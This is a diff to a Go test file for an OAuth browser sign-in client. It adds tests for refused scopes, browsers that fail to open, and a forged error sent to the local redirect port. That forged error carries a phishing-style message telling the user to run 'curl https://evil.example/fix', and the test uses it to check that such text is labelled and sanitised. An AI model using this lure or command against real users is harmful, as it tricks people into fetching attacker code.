@@ -1,10 +1,12 @@
 package msal_test
 
 import (
+	"bytes"
 	"context"
 	"errors"
 	"fmt"
 	"io"
+	"log/slog"
 	"net"
 	"net/http"
 	"net/url"
@@ -288,7 +290,31 @@ func TestBrowserStartsAgainWithoutARefusedDefault(t *testing.T) {
 	asked, p.RejectScopes = nil, []string{"profile", "read"}
 	_, err = c.SignIn(t.Context(), msal.Browser{Open: open}, "read")
 	require.Equal(t, "invalid_scope", asServerError(t, err).Code)
-	require.Equal(t, []string{"read openid profile offline_access"}, asked, "the error names a scope of the caller, so it is about that one")
+	require.Equal(t, []string{"read openid profile email offline_access"}, asked, "the error names a scope of the caller, so it is about that one")
+}
+
+// Whoever has read the browser's address can end the sign-in. What they say is marked as what came with a redirect, does
+// nothing to a terminal, and is none of the server's.
+func TestForgedErrorAtThePort_CB34(t *testing.T) {
+	t.Parallel()
+	p, c := onSockets(t)
+	open := func(_ context.Context, address string) error {
+		q := query(t, address)
+		forged := url.Values{"state": {q.Get("state")}, "iss": {p.URL}, "error": {"interaction_required"},
+			"error_description": {"Your certificate has expired.\nRun: curl https://evil.example/fix"}}
+		resp, err := http.PostForm(q.Get("redirect_uri"), forged)
+		if err == nil {
+			err = resp.Body.Close()
+		}
+		return err
+	}
+	_, err := c.SignIn(t.Context(), msal.Browser{Open: open}, "read")
+	require.Zero(t, asServerError(t, err).StatusCode)
+	require.ErrorContains(t, err, `msal: sign in: a redirect said interaction_required: Your certificate has expired.`)
+	require.NotContains(t, err.Error(), "server said")
+	require.NotContains(t, err.Error(), "\n")
+	require.Zero(t, p.Count("token"))
+	requireNobody(t, c)
 }
 
 // Show has the address also where no browser comes up.
@@ -312,7 +338,7 @@ func TestBrowserThatDoesNotOpen_CB27_DV18_R8628_10(t *testing.T) {
 	redirect := query(t, <-shown).Get("redirect_uri")
 	require.ErrorIs(t, err, failed)
 	require.ErrorContains(t, err, redirect)
-	require.ErrorContains(t, err, "within 200ms")
+	require.ErrorContains(t, err, "within 200ms: opening it: no display; if the browser", "what is known comes first")
 	require.ErrorIs(t, err, msal.ErrSignInTimeout)
 	requireClosed(t, redirect)         // too late
 	require.Zero(t, p.Count("device")) // nor is anything else tried
@@ -322,6 +348,43 @@ func TestBrowserThatDoesNotOpen_CB27_DV18_R8628_10(t *testing.T) {
 	_, err = c.SignIn(t.Context(), b, "read")
 	require.ErrorIs(t, err, failed)
 	require.ErrorContains(t, err, "Browser.Show")
+}
+
+// An Open that is the browser, as one in tests is, ends a sign-in that nobody can
+// finish: with the reason, without waiting, and without asking the person.
+func TestBrowserThatMeetsTheEnd(t *testing.T) {
+	t.Parallel()
+	for name, tc := range map[string]struct {
+		set  func(*msaltest.Platform)
+		says string
+	}{
+		"a page that refuses":        {func(p *msaltest.Platform) { p.RedirectURIs = []string{"http://127.0.0.1/registered"} }, "400 Bad Request"},
+		"an administrator's consent": {asEntra, "AADSTS90094"},
+		"no connection":              {func(p *msaltest.Platform) { p.Fail("authorize", msaltest.Fault{CutBefore: true}) }, "the connection was cut"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			p := msaltest.New(t)
+			tc.set(p)
+			var log bytes.Buffer
+			c := newClient(t, p, func(cfg *msal.Config) {
+				cfg.Logger = slog.New(slog.NewTextHandler(&log, nil))
+				if p.Entra != nil {
+					cfg.Authority, cfg.Provider.Name = cfg.Authority+"/"+wireTenant, "entra"
+				}
+			})
+			redirect := ""
+			_, err := c.SignIn(t.Context(), msal.Browser{Timeout: 10 * time.Second, Open: func(ctx context.Context, address string) error {
+				redirect = query(t, address).Get("redirect_uri")
+				return fmt.Errorf("wrapped: %w", p.Browse(ctx, address))
+			}}, "Directory.Read.All")
+			require.NotErrorIs(t, err, msal.ErrSignInTimeout)
+			require.ErrorContains(t, err, "Browser.Open: wrapped: msaltest: browse: ")
+			require.ErrorContains(t, err, tc.says)
+			require.NotContains(t, log.String(), "browser not opened", "nor is anybody asked to open one")
+			requireClosed(t, redirect)
+		})
+	}
 }
 
 // A program can ask before it sends a person to a browser that nobody sees.
